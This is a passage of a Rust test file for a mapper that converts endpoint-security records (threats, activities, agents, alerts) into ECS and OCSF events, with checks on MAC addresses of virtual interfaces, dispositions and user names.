    assert_fields(&map_to(Schema::Ecs, Stream::UnifiedAlerts, &record), &[("related.user", all.clone())]);
    // Who wrote a note.
    let note = json!({"id": "5", "createdAt": "2026-01-01T00:00:00Z", "text": "t", "creator": both, "creatorId": "7"});
    let notes = json!({"notes": [note]}).to_string();
    let [ecs, ocsf] = [Schema::Ecs, Schema::Ocsf].map(|schema| {
        let mut out = Vec::new();
        let record = threat(json!({}), json!({})).to_string();
        let mut mapper = mapper_to(schema, Stream::Threats, false);
        mapper.map_record(record.as_bytes(), None, Some(notes.as_bytes()), &mut out).unwrap();
        let event = read_event(&out);
        assert_eq!(faults(schema, &event), Vec::<String>::new(), "{event:#}");
        event
    });
    assert_fields(&ecs, &[("related.user", all)]);
    let owner =
        json!({"name": "jane", "full_name": name, "email_addr": address, "uid": "7", "type": "Unknown", "type_id": 0});
    assert_eq!(ocsf["notes"][0]["owner"], owner);
}

#[test]
fn a_mac_address_of_all_clients_of_a_vpn_is_none_of_a_device() {
    let one = |mac: &str, ip: &str| json!({"name": "Ethernet 2", "physical": mac, "inet": [ip]});
    let real = "98:fa:9b:5f:f2:bd";
    for shared in [
        "00:09:0f:aa:00:01",
        "00:09:0f:fe:00:01",
        "00:05:9a:3c:7a:00",
        "00-05-9A-3C-78-00",
        "02:50:41:00:00:01",
        "02:05:85:7f:eb:80",
        "02:00:4c:4f:4f:50",
        "50:50:54:50:30:30",
        "20:41:53:59:4e:ff",
        "00:50:56:c0:00:01",
        "00:50:56:C0:00:08",
        "0a:00:27:00:00:00",
        "0A-00-27-00-00-0B",
        "ee:ee:ee:ee:ee:ee",
        "fe:ff:ff:ff:ff:ff",
        // The chip within a Mac, and Parallels on its host.
        "ac:de:48:00:11:22",
        "AC-DE-48-00-11-22",
        "00:1c:42:00:00:08",
        "00:1c:42:00:00:09",
    ] {
        for (named, interfaces, ip, mac) in [
            ("10.9.0.2", json!([one(shared, "10.9.0.2")]), "10.9.0.2", Value::Null),
            ("10.4.4.69", json!([one(shared, "10.9.0.2")]), "10.4.4.69", Value::Null),
            ("10.4.4.69", json!([one(shared, "10.9.0.2"), one(real, "10.4.4.70")]), "10.4.4.69", json!(real)),
            ("10.9.0.2", json!([one(shared, "10.9.0.2"), one(real, "10.4.4.70")]), "10.4.4.70", json!(real)),
        ] {
            let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "lastIpToMgmt": named,
                "networkInterfaces": interfaces});
            let event = map_to(Schema::Ocsf, Stream::Agents, &agent);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("device.ip", json!(ip)), ("device.mac", mac)]);
            assert!(!observed(&event).iter().any(|(_, value)| value == shared), "{event:#}");
            assert_eq!(event["device"]["network_interfaces"][0]["mac"], shared);
            let event = map_to(Schema::Ecs, Stream::Agents, &agent);
            let has_real = interfaces.as_array().unwrap().len() > 1;
            let macs = if has_real { json!(["98-FA-9B-5F-F2-BD"]) } else { Value::Null };
            assert_fields(&event, &[("host.mac", macs)]);
        }
        let data = json!({"alertid": "5", "rulename": "r", "agentipv4": "10.4.4.69", "physical": shared});
        let event = map_to(Schema::Ocsf, Stream::Activities, &activity(3608, json!({"agentId": "9"}), data));
        assert_fields(&event, &[("device.ip", json!("10.4.4.69")), ("device.mac", Value::Null)]);
        let data = json!({"alertid": "5", "rulename": "r", "physical": format!("{shared},{real}")});
        let [ecs, ocsf] = of_activity(3608, json!({"agentId": "9"}), data);
        assert_fields(&ecs, &[("host.mac", json!(["98-FA-9B-5F-F2-BD"]))]);
        assert_fields(&ocsf, &[("device.mac", json!(real))]);
    }
}

#[test]
fn an_interface_of_pods_and_switches_within_a_host_represents_no_device() {
    let mac = "9c:fc:e8:11:22:33";
    for name in [
        "vxlan.calico",
        "tunl0",
        "cali12ab34cd56e",
        "ovn-k8s-mp0",
        "antrea-gw0",
        "incusbr0",
        "cilium_host",
        "cilium_vxlan",
        "flannel.1",
        "cni0",
        "cbr0",
        "kube-dummy-if",
        "nodelocaldns",
        "genev_sys_6081",
        "br-int",
        "vnet0",
        "nerdctl0",
        "docker_gwbridge",
        "vEthernet (HNS Internal NIC)",
        "vEthernet (nat)",
        "vEthernet (Internal Switch)",
        "Npcap Loopback Adapter",
        "Microsoft KM-TEST Loopback Adapter",
    ] {
        let one = |name: &str, mac: &str, ip: &str| json!({"name": name, "physical": mac, "inet": [ip]});
        let interfaces = json!([one(name, "66:f0:12:34:56:78", "10.244.1.1"), one("eth0", mac, "192.168.129.2")]);
        let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "lastIpToMgmt": "10.244.1.1",
            "networkInterfaces": interfaces});
        let others = json!({"agentRealtimeInfo": {"agentId": "9", "networkInterfaces": interfaces},
            "agentDetectionInfo": {"agentIpV4": "10.244.1.1,192.168.129.2"}});
        for (stream, record) in [(Stream::Agents, agent), (Stream::Threats, threat(json!({}), others))] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event["device"], &[("ip", json!("192.168.129.2")), ("mac", json!(mac))]);
        }
    }
}

/// The agent was sent an action. Nobody knows whether it did.
#[test]
fn an_action_that_was_only_sent_did_nothing_yet() {
    for (counters, status, disposition) in [
        (Value::Null, "not_mitigated", "Detected"),
        (json!({"success": 0, "pendingReboot": 0, "total": 0}), "not_mitigated", "Detected"),
        (Value::Null, "mitigated", "Corrected"),
    ] {
        let report = json!({"action": "quarantine", "status": "sent", "actionsCounters": counters});
        let record = threat(json!({"mitigationStatus": status}), json!({"mitigationStatus": [report]}));
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("disposition", json!(disposition)), ("remediation.desc", json!("quarantine: sent"))]);
    }
}

/// Linux and Windows write a hyphen in the place of a name.
#[test]
fn a_hyphen_is_nobody() {
    let user = "Effective: root, Real: jane, Login: -";
    let record =
        threat(json!({"processUser": user}), json!({"agentDetectionInfo": {"agentLastLoggedInUserName": "-"}}));
    let event = map_to(Schema::Ecs, Stream::Threats, &record);
    assert_fields(&event, &[("user.name", json!("root")), ("related.user", json!(["root", "jane"]))]);
    let event = map_to(Schema::Ocsf, Stream::Threats, &record);
    assert_fields(&event, &[("device.owner", Value::Null)]);
    let record = activity(27, json!({"userId": "7"}), json!({"username": "-", "fullName": "N/A", "ipAddress": "-"}));
    let event = map_to(Schema::Ecs, Stream::Activities, &record);
    assert_fields(&event, &[("user", json!({"id": "7"})), ("source", Value::Null), ("related", Value::Null)]);
}

/// Nobody knows the MAC address of a device whose address no interface has, unless there is one that is its own.
#[test]
fn an_adapter_of_a_virtual_network_lends_no_device_its_mac() {
    let one = |name: &str, mac: &str, ip: &str| json!({"name": name, "physical": mac, "inet": [ip]});
    let real = "98:fa:9b:5f:f2:bd";
    let tap = one("Local Area Connection", "00:ff:79:9a:15:d3", "100.64.0.1");
    let virtual_box = one("Ethernet 3", "0a:00:27:00:00:10", "192.168.56.1");
    let tailscale = one("Ethernet 4", "aa:bb:cc:00:00:01", "100.101.102.103");
    for (named, interfaces, mac) in [
        ("192.168.2.69", json!([tap]), Value::Null),
        ("10.1.1.5", json!([virtual_box]), Value::Null),
        ("10.1.1.5", json!([one("", "02:42:00:00:00:09", "172.17.0.2")]), Value::Null),
        ("10.1.1.5", json!([tailscale]), Value::Null),
        ("10.1.1.5", json!([one("tap0", "aa:bb:cc:00:00:01", "10.8.0.2")]), Value::Null),
        ("10.1.1.5", json!([tap, tailscale, one("Ethernet", real, "10.1.1.6")]), json!(real)),
        ("100.64.0.1", json!([tap]), json!("00:ff:79:9a:15:d3")),
    ] {
        let agent = json!({"id": "3", "computerName": "h", "updatedAt": "2026-01-01T00:00:00Z", "lastIpToMgmt": named,
            "networkInterfaces": interfaces});
        let others = json!({"agentRealtimeInfo": {"agentId": "3", "networkInterfaces": interfaces},
            "agentDetectionInfo": {"agentIpV4": named}});
        for (stream, record) in [(Stream::Agents, agent), (Stream::Threats, threat(json!({}), others))] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("device.ip", json!(named)), ("device.mac", mac.clone())]);
        }
    }
}

/// A tunnel of OpenVPN or ZeroTier has a MAC address as other adapters do.
#[test]
fn a_tunnel_with_a_mac_address_represents_no_device() {
    for name in ["tap0", "ztabcdef12", "TAP-Windows Adapter V9", "ZeroTier One [8056c2e21c000001]"] {
        let one = |name: &str, mac: &str, ip: &str| json!({"name": name, "physical": mac, "inet": [ip]});
        let interfaces =
            json!([one(name, "aa:bb:cc:00:00:01", "10.147.17.5"), one("eth0", "98:fa:9b:5f:f2:bd", "10.1.1.5")]);
        let agent = json!({"id": "3", "updatedAt": "2026-01-01T00:00:00Z", "networkInterfaces": interfaces});
        let event = map_to(Schema::Ocsf, Stream::Agents, &agent);
        assert_fields(&event, &[("device.ip", json!("10.1.1.5")), ("device.mac", json!("98:fa:9b:5f:f2:bd"))]);
    }
}

#[test]
fn a_decision_about_a_finding_of_an_unknown_type_is_an_update() {
    let of_threat = |data: Value| activity(4998, json!({"threatId": "9"}), data);
    let decided = |key: &str, word: &str| {
        let mut data = json!({"confidenceLevel": "malicious"});
        data[key] = json!(word);
        of_threat(data)
    };
    let rule = |more: Value| {
        let mut data = json!({"rulename": "r", "alertid": "9"});
        data.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        activity(6099, json!({}), data)
    };
    let none = Value::Null;
    for (record, status, verdict, kind) in [
        (decided("newAnalystVerdict", "false_positive"), none.clone(), json!("False Positive"), "malware"),
        (decided("newAnalystVerdictTitle", "True positive"), none.clone(), json!("True Positive"), "malware"),
        (decided("newIncidentStatus", "in_progress"), json!("In Progress"), none.clone(), "malware"),
        (decided("newIncidentStatusTitle", "Resolved"), json!("Resolved"), none.clone(), "malware"),
        (decided("newConfidenceLevel", "suspicious"), none.clone(), none.clone(), "malware"),
        (rule(json!({"newIncidentStatus": "resolved"})), json!("Resolved"), none.clone(), "intrusion_detection"),
        (
            rule(json!({"newAnalystVerdict": "true_positive", "sourceprocessname": "a.exe"})),
            none.clone(),
            json!("True Positive"),
            "intrusion_detection",
        ),
        (
            activity(6098, json!({}), json!({"alertId": "9", "newIncidentStatus": "resolved"})),
            json!("Resolved"),
            none.clone(),
            "intrusion_detection",
        ),
    ] {
        let is_resolved = status == "Resolved";
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(
            &event,
            &[
                ("class_uid", json!(2004)),
                ("activity_name", json!(if is_resolved { "Close" } else { "Update" })),
                ("finding_info.uid", json!("9")),
                ("status", status),
                ("verdict", verdict),
                ("is_alert", Value::Null),
            ],
        );
        let event = map_to(Schema::Ecs, Stream::Activities, &record);
        assert_eq!(faults(Schema::Ecs, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("event.kind", json!("event")), ("event.category", json!([kind]))]);
        let id = if kind == "malware" { "sentinel_one.threat.id" } else { "sentinel_one.alert.id" };
        assert_fields(&event, &[(id, json!("9"))]);
    }
    // Without a decision, it is a detection.
    for record in [of_threat(json!({"confidenceLevel": "malicious"})), rule(json!({}))] {
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_fields(&event, &[("activity_name", json!("Create")), ("is_alert", json!(true))]);
    }
}

#[test]
fn an_id_that_is_a_number_is_text() {
    for (stream, record, path) in [
        (Stream::Threats, json!({"id": 5, "threatInfo": {"threatId": 5}}), "sentinel_one.threat.id"),
        (Stream::Threats, json!({"id": 6, "threatInfo": {"threatId": 5}}), "sentinel_one.threat.threat_info.threat_id"),
        (Stream::Threats, json!({"threatInfo": {"threatId": 5}}), "sentinel_one.threat.id"),
        (Stream::Activities, json!({"id": 1, "activityType": 4020, "threatId": 5}), "sentinel_one.threat.id"),
        (Stream::Activities, json!({"id": 1, "activityType": 3608, "data": {"alertid": 5}}), "sentinel_one.alert.id"),
        (Stream::Alerts, json!({"alertInfo": {"alertId": 5}}), "sentinel_one.alert.id"),
        (Stream::Vulnerabilities, json!({"id": 5}), "sentinel_one.vulnerability.id"),
        (Stream::Agents, json!({"id": 5, "siteId": 5, "updatedAt": "2026-01-01T00:00:00Z"}), "host.id"),
        (Stream::Agents, json!({"id": 5, "siteId": 5, "updatedAt": "2026-01-01T00:00:00Z"}), "sentinel_one.site.id"),
    ] {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_eq!(faults(Schema::Ecs, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[(path, json!("5"))]);
    }
}

/// Without `byUser`, the name in a record is that of who acted, so the user whom it is about has the same role.
#[test]
fn one_person_has_one_type() {
    for (role, kind) in [("admin", "Admin"), ("Viewer", "User")] {
        let data = json!({"username": "jane", "role": role, "userScope": "site"});
        let event = map_to(Schema::Ocsf, Stream::Activities, &activity(9998, json!({"userId": "5"}), data));
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("actor.user.type", json!(kind)), ("user.type", json!(kind))]);
        assert_fields(&event, &[("actor.user.name", json!("jane")), ("user.name", json!("jane"))]);
    }
}

#[test]
fn a_message_has_no_placeholder_in_it() {
    let time = json!("2026-01-01T00:00:00Z");
    let info = |fields: Value| json!({"id": "1", "threatInfo": fields});
    let alert = |rule: &str, name: &str| json!({"alertInfo": {"alertId": "1"}, "ruleInfo": {"name": rule}, "agentRealtimeInfo": {"name": name}});
    let unified =
        |name: &str, host: &str| json!({"id": "1", "name": name, "assets": [{"name": host, "osType": "LINUX"}]});
    for (stream, record, message) in [
        (Stream::Threats, info(json!({"classification": "Malware", "threatName": "N/A"})), json!("Malware")),
        (Stream::Threats, info(json!({"classification": "N/A", "threatName": "a.exe"})), json!("a.exe")),
        (
            Stream::Threats,
            info(json!({"classification": "Malware", "threatName": "a", "mitigationStatusDescription": "N/A"})),
            json!("Malware a"),
        ),
        (Stream::Alerts, alert("N/A", "h"), json!("h")),
        (Stream::Alerts, alert("N/A", "N/A"), Value::Null),
        (Stream::UnifiedAlerts, unified("N/A", "h"), json!("h")),
        (Stream::UnifiedAlerts, unified("x", "N/A"), json!("x")),
        (
            Stream::Vulnerabilities,
            json!({"id": "1", "cveId": "CVE-2025-1", "severity": "N/A", "status": "N/A"}),
            json!("CVE-2025-1"),
        ),
        (
            Stream::Vulnerabilities,
            json!({"id": "1", "cveId": "CVE-2025-1", "severity": "HIGH", "status": "Detected"}),
            json!("CVE-2025-1 (HIGH): Detected"),
        ),
        (
            Stream::Agents,
            json!({"id": "1", "updatedAt": time, "computerName": "h", "agentVersion": "N/A", "networkStatus": "N/A"}),
            json!("h"),
        ),
        (Stream::Groups, json!({"id": "1", "updatedAt": time, "name": "N/A"}), Value::Null),
    ] {
        for schema in [Schema::Ecs, Schema::Ocsf] {
            let event = map_to(schema, stream, &record);
            assert_eq!(faults(schema, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("message", message.clone())]);
        }
    }
    let decided = json!({"newIncidentStatus": "N/A", "newAnalystVerdict": "true_positive"});
    let event = map_to(Schema::Ecs, Stream::Activities, &activity(2028, json!({"threatId": "1"}), decided));
    assert_fields(&event, &[("event.reason", json!("true_positive"))]);
    let finding = json!({"id": "1", "cveId": "N/A", "applicationName": "a", "applicationVersion": "N/A"});
    let event = map_to(Schema::Ocsf, Stream::Vulnerabilities, &finding);
    assert_fields(&event, &[("finding_info.title", json!("a"))]);
}

#[test]
fn a_process_of_a_connection_needs_no_name() {
    let data = json!({"computerName": "c", "processId": 4, "processName": "", "application": null,
        "reportedDirection": "inbound", "reportedRemoteHost": "192.0.2.1"});
    check(
        "process-without-name",
        Stream::Activities,
        &activity(5232, json!({"agentId": "9"}), data),
        &[("process", json!({"pid": 4}))],
        &[("actor.process", json!({"pid": 4}))],
    );
}

#[test]
fn the_file_of_a_hash_has_the_name_that_the_record_gives_it() {
    let sha1 = "1".repeat(40);
    let info = json!({"threatName": "powershell.exe (interactive session)", "isFileless": true, "sha1": sha1,
        "filePath": "", "detectionType": "dynamic"});
    let record = threat(info, json!({}));
    check(
        "session-with-hash",
        Stream::Threats,
        &record,
        &[("file.name", json!("powershell.exe")), ("file.hash.sha1", json!(sha1))],
        &[],
    );
    let event = map_to(Schema::Ocsf, Stream::Threats, &record);
    let file = &event["evidences"][0]["file"];
    assert_fields(file, &[("name", json!("powershell.exe"))]);
    assert_eq!(file.pointer("/hashes/0/value"), Some(&json!(sha1)), "{event:#}");
    // The name of a threat is that of its file.
    let event = map_to(Schema::Ocsf, Stream::Threats, &threat(json!({"sha1": sha1}), json!({})));
    assert_eq!(event.pointer("/evidences/0/file/name"), Some(&json!("x.exe")), "{event:#}");
}

#[test]
fn the_program_of_a_session_is_no_malware() {
    let sha1 = "1".repeat(40);
    let [name, path] = ["cmd.exe (interactive session)", "C:\\Windows\\System32\\cmd.exe"];
    let info = json!({"threatName": name, "fileDisplayName": name, "sha1": sha1, "filePath": path, "detectionType": "dynamic"});
    let data = json!({"threatClassification": "Malware", "fileDisplayName": name, "filePath": path,
        "fileContentHash": sha1});
    let unified = json!({"id": "1", "name": name, "classification": "MALWARE",
        "process": {"file": {"name": name, "path": path, "sha1": sha1}}});
    for (stream, record) in [
        (Stream::Threats, threat(info, json!({}))),
        (Stream::Activities, activity(19, json!({"threatId": "5"}), data)),
        (Stream::UnifiedAlerts, unified),
    ] {
        let event = map_to(Schema::Ocsf, stream, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event["malware"][0], &[("name", json!("cmd.exe")), ("uid", Value::Null)]);
        assert_eq!(event.pointer("/evidences/0/file/hashes/0/value"), Some(&json!(sha1)), "{event:#}");
    }
}

#[test]
fn a_process_of_an_activity_has_its_arguments_and_an_executable_file() {
    let data = json!({"fileDisplayName": "a.exe", "filePath": "C:\\x\\a.exe",
        "escapedMaliciousProcessArguments": "\"\\\"C:\\\\x\\\\a.exe\\\" -q\"", "newAnalystVerdict": "true_positive"});
    let record = activity(2030, json!({"threatId": "5"}), data);
    let line = json!("\"C:\\x\\a.exe\" -q");
    check(
        "activity-with-arguments",
        Stream::Activities,
        &record,
        &[("process.executable", json!("C:\\x\\a.exe")), ("process.command_line", line.clone())],
        &[],
    );
    let event = map_to(Schema::Ocsf, Stream::Activities, &record);
    let evidence = &event["evidences"][0];
    assert_fields(
        evidence,
        &[("data", json!({"process": "C:\\x\\a.exe", "arguments": line})), ("file.type", json!("Executable File"))],
    );
    // Arguments of nobody knows whom are evidence too, and no file.
    let data = json!({"fileDisplayName": "a.ps1", "filePath": "C:\\x\\a.ps1", "newAnalystVerdict": "true_positive",
        "escapedMaliciousProcessArguments": "-q"});
    let event = map_to(Schema::Ocsf, Stream::Activities, &activity(2030, json!({"threatId": "5"}), data));
    let evidence = &event["evidences"][0];
    assert_fields(evidence, &[("data", json!({"arguments": "-q"})), ("file.type", json!("Unknown"))]);
}

/// A bundle of macOS is a directory.
#[test]
fn a_bundle_is_no_process() {
    let os = json!({"agentRealtimeInfo": {"agentOsType": "macos"}});
    let info = json!({"filePath": "/Applications/My Tool.app", "threatName": "My Tool.app", "detectionType": "dynamic",
        "originatorProcess": "launchd", "processUser": "jane"});
    check(
        "bundle",
        Stream::Threats,
        &threat(info.clone(), os.clone()),
        &[
            ("file.path", json!("/Applications/My Tool.app")),
            ("process", json!({"parent": {"name": "launchd"}})),
            ("user.name", json!("jane")),
        ],
        &[],
    );
    let event = map_to(Schema::Ocsf, Stream::Threats, &threat(info, os.clone()));
    assert_eq!(event.pointer("/evidences/0/file/type"), Some(&json!("Regular File")), "{event:#}");
    assert_eq!(event.pointer("/evidences/0/data/process"), None, "{event:#}");
    // The program within it is one.
    let program = "/Applications/My Tool.app/Contents/MacOS/My Tool";
    let info = json!({"filePath": program, "detectionType": "dynamic"});
    let event = map_to(Schema::Ecs, Stream::Threats, &threat(info, os));
    assert_fields(&event, &[("process.executable", json!(program))]);
    let unified = |line: Value| {
        let file = json!({"name": "Tool.app", "path": "/Applications/Tool.app"});
        json!({"id": "1", "analytics": {"typeValue": "DYNAMIC"}, "process": {"cmdLine": line, "file": file}})
    };
    let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &unified(Value::Null));
    assert_fields(&event, &[("process", Value::Null), ("file.name", json!("Tool.app"))]);
    let event =
        map_to(Schema::Ecs, Stream::UnifiedAlerts, &unified(json!("/Applications/Tool.app/Contents/MacOS/Tool -x")));
    assert_fields(&event, &[("process.name", json!("Tool")), ("file.name", json!("Tool.app"))]);
}

#[test]
fn the_name_of_malware_is_no_path() {
    let [windows, unix] = ["C:\\x\\evil.exe", "/tmp/evil.exe"];
    for path in [windows, unix] {
        let data = json!({"threatClassification": "Malware", "fileDisplayName": path});
        let unified = json!({"id": "1", "classification": "MALWARE", "name": path});
        for (stream, record) in [
            (Stream::Threats, threat(json!({"threatName": path}), json!({}))),
            (Stream::Activities, activity(19, json!({"threatId": "5"}), data)),
            (Stream::UnifiedAlerts, unified),
        ] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event["malware"][0], &[("name", json!("evil.exe"))]);
        }
    }
}

#[test]
fn the_file_of_a_threat_from_another_host_is_an_indicator() {
    let origin = "Lateral Movement 192.0.2.3 ACME\\bob (interactive session)";
    let info = json!({"originatorProcess": origin, "filePath": "C:\\x\\a.exe"});
    let event = map_to(Schema::Ecs, Stream::Threats, &threat(info, json!({})));
    assert_fields(&event, &[("threat.indicator.type", json!("file")), ("threat.indicator.file.name", json!("a.exe"))]);
    // Without a file, it is none.
    let event = map_to(
        Schema::Ecs,
        Stream::Threats,
        &threat(json!({"originatorProcess": origin, "threatName": origin}), json!({})),
    );
    assert_fields(&event, &[("threat.indicator.type", Value::Null), ("threat.indicator.file", Value::Null)]);
}

#[test]
fn an_activity_has_the_disposition_of_the_state_that_it_names() {
    for (number, state, expected) in [
        (18, Value::Null, json!("Corrected")),
        (4008, json!("Mitigated"), json!("Corrected")),
        (4008, json!("Blocked"), json!("Blocked")),
        (4008, json!("Not mitigated"), json!("Detected")),
        (4008, json!("Marked as benign"), json!("Exonerated")),
    ] {
        let data = json!({"threatClassification": "Malware", "newStatus": state});
        let record = activity(number, json!({"threatId": "5"}), data);
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("class_uid", json!(2004)), ("disposition", expected)]);
    }
}

#[test]
fn what_was_blocked_was_not_corrected() {
    let report = |action: &str| json!([{"action": action, "status": "success"}]);
    for (reports, expected) in [(json!([]), "Blocked"), (report("quarantine"), "Quarantined")] {
        let record = threat(json!({"mitigationStatus": "blocked"}), json!({"mitigationStatus": reports}));
        assert_fields(
            &map_to(Schema::Ecs, Stream::Threats, &record),
            &[("event.action", json!("threat-blocked")), ("event.outcome", json!("success"))],
        );
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_fields(&event, &[("disposition", json!(expected)), ("action", json!("Denied"))]);
    }
    let record = json!({"id": "1", "result": "BLOCKED"});
    let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
    assert_fields(&event, &[("disposition", json!("Blocked")), ("action", json!("Denied"))]);
}

#[test]
fn a_device_is_managed_by_the_agent_that_the_alert_names() {
    for (asset, expected) in [
        (json!({"osType": "LINUX"}), json!(false)),
        (json!({"osType": "LINUX", "agentUuid": "u-1"}), json!(true)),
        (json!({"agentVersion": "24.1.2"}), json!(true)),
        (json!({"agentUuid": "u-1", "decommissioned": true}), json!(false)),
        (json!({"osType": "LINUX", "decommissioned": true}), json!(false)),
    ] {
        let mut asset = asset;
        asset["name"] = json!("h");
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &json!({"id": "1", "assets": [asset]}));
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("device.hostname", json!("h")), ("device.is_managed", expected)]);
    }
}

#[test]
fn a_signature_is_trusted_or_not_if_the_record_says_so() {
    for (is_valid, expected) in [(Value::Null, "Unknown"), (json!(true), "Valid"), (json!(false), "Untrusted")] {
        let info = json!({"filePath": "C:\\a.exe", "fileVerificationType": "SignedVerified",
            "isValidCertificate": is_valid});
        let event = map_to(Schema::Ocsf, Stream::Threats, &threat(info, json!({})));
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_eq!(event.pointer("/evidences/0/file/signatures/0/state"), Some(&json!(expected)), "{event:#}");
    }
    let info = json!({"filePath": "C:\\a.exe", "fileVerificationType": "NotSigned", "isValidCertificate": false});
    let event = map_to(Schema::Ocsf, Stream::Threats, &threat(info, json!({})));
    assert_eq!(event.pointer("/evidences/0/file/signatures"), None, "{event:#}");
}

#[test]
fn an_agent_of_which_nothing_is_said_has_no_risk_level() {
    for (infected, expected) in [
        (json!(true), json!("High")),
        (json!(false), json!("Info")),
        (json!("perhaps"), Value::Null),
        (Value::Null, Value::Null),
    ] {
        let record = json!({"id": "1", "computerName": "h", "infected": infected});
        let event = map_to(Schema::Ocsf, Stream::Agents, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("device.risk_level", expected)]);
    }
}

/// Whether a user of an endpoint is an administrator there is in no record.
#[test]
fn the_type_of_an_endpoints_user_is_unknown_unless_the_name_says_it() {
    let by_agent = |data: Value| activity(90, json!({"agentId": "9"}), data);
    let login = |user: &str| json!({"alertInfo": {"alertId": "1", "loginsUserName": user, "loginAccountDomain": "D"}});
    let target = |user: &str, domain: &str| json!({"id": "1", "detectionTime": {"targetUser": {"name": user, "domain": domain}}});
    let identity = |user: &str| json!({"id": "1", "assets": [{"name": user, "category": "Identity", "primary": true}]});
    for (user, expected) in [("jane", "Unknown"), ("SYSTEM", "System")] {
        let origin = format!("Lateral Movement 192.0.2.3 ACME\\{user}");
        for (stream, record, path) in [
            (Stream::Activities, by_agent(json!({"lastLoggedInUserName": user})), "/actor/user/type"),
            (Stream::Activities, by_agent(json!({"fileDisplayName": origin})), "/actor/user/type"),
            (Stream::Alerts, login(user), "/evidences/0/user/type"),
            (Stream::UnifiedAlerts, target(user, "D"), "/evidences/0/user/type"),
            (Stream::UnifiedAlerts, target(user, ""), "/evidences/0/user/type"),
            (Stream::UnifiedAlerts, identity(user), "/evidences/0/user/type"),
        ] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(event.pointer(path), Some(&json!(expected)), "{stream}: {event:#}");
        }
    }
}

#[test]
fn who_is_logged_in_now_is_related_to_an_alert_too() {
    let asset = |user: &str, primary: bool| json!({"name": "h", "osType": "LINUX", "lastLoggedInUser": user, "primary": primary});
    let detected = |user: &str| json!({"primary": true, "asset": {"lastLoggedInUser": user}});
    let record = json!({"id": "1", "detectedAt": "2026-01-01T00:00:00Z", "assets": [asset("ACME\\jane", true), asset("bob", false)],
        "detectionTime": {"assets": [detected("john")]}});
    check(
        "two-users-logged-in",
        Stream::UnifiedAlerts,
        &record,
        &[("user.name", json!("john")), ("related.user", json!(["john", "jane", "bob"]))],
        &[("device.owner.name", json!("john"))],
    );
    let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
    let users = observed(&event).into_iter().filter(|(kind, _)| kind == "User Name").map(|(_, name)| name);
    assert_eq!(users.collect::<Vec<_>>(), ["john", "ACME\\jane", "bob"], "{event:#}");
    // Who was there before is there once.
    let record = json!({"id": "1", "assets": [asset("ACME\\jane", true)],
        "detectionTime": {"assets": [detected("ACME\\jane")]}});
    let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
    let users = observed(&event).into_iter().filter(|(kind, _)| kind == "User Name").map(|(_, name)| name);
    assert_eq!(users.collect::<Vec<_>>(), ["jane"], "{event:#}");
}

#[test]
fn a_doubled_backslash_is_one() {
    let record = threat(json!({"processUser": "ACME\\\\jane"}), json!({}));
    assert_fields(
        &map_to(Schema::Ecs, Stream::Threats, &record),
        &[("user.name", json!("jane")), ("user.domain", json!("ACME")), ("related.user", json!(["jane"]))],
    );
    let event = map_to(Schema::Ocsf, Stream::Threats, &record);
    let user = json!({"name": "jane", "domain": "ACME", "type_id": 0, "type": "Unknown"});
    assert_fields(&event, &[("actor.user", user), ("unmapped.threatInfo.processUser", json!("ACME\\\\jane"))]);
    let origin = json!({"originatorProcess": "Lateral Movement 192.0.2.3 ACME\\\\bob (interactive session)"});
    let event = map_to(Schema::Ecs, Stream::Threats, &threat(origin, json!({})));
    assert_fields(&event, &[("user.name", json!("bob")), ("user.domain", json!("ACME"))]);
}

#[test]
fn an_address_that_names_a_user_of_an_activity_is_no_domain() {
    let user = json!({"name": "jane", "email_addr": "jane@acme.example", "type_id": 0, "type": "Unknown"});
    let name = "jane@acme.example";
    for (record, path) in [
        (activity(27, json!({}), json!({"username": name})), "actor.user"),
        (activity(27, json!({}), json!({"username": name})), "user"),
        (activity(24, json!({}), json!({"byUser": "a", "username": name})), "user"),
        (activity(90, json!({"agentId": "9"}), json!({"lastLoggedInUserName": name})), "actor.user"),
    ] {
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[(path, user.clone())]);
        let path = if path == "user" && record["activityType"] == 24 { "user.target" } else { "user" };
